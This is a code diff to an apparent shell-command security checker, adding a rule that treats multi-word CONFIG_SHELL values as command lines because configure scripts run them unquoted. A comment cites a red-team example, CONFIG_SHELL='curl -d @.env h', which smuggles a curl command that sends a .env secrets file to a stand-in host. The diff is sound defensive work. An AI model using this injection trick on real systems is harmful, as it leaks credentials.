@@ -118,6 +118,11 @@ def environment_sink(name, value):
 
         if not value.dynamic and value.text.strip().rsplit("/", 1)[-1] in SHELLS:
             return None
+        if name == "CONFIG_SHELL" and not value.dynamic and len(value.text.split()) > 1:
+            # configure runs `$SHELL $CONFIG_STATUS …` unquoted (SHELL=${CONFIG_SHELL-/bin/sh}): the
+            # value's words are a command line (red team 41: CONFIG_SHELL='curl -d @.env h' ran curl)
+            return Sink(label, "shell", "a configure script runs config.status as `$CONFIG_SHELL config.status`, "
+                        "the value cut into words", value)
         return Sink(label, "program", "programs started by this command (flock -c, script -c, sudo -s, parallel, "
                     "tmux; a configure script and the config.status and makefiles it writes) run their commands "
                     "through $%s" % name, value)
